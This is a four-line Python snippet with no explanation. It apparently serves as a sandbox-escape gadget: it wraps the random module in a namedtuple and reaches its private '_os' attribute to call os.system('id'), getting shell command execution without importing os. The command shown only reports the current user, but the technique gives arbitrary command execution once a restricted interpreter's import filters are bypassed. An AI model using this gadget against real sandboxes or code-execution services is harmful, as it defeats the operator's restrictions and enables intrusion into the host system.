from collections import namedtuple
import random
B = namedtuple("B", "m")
B(random).m._os.system("id")
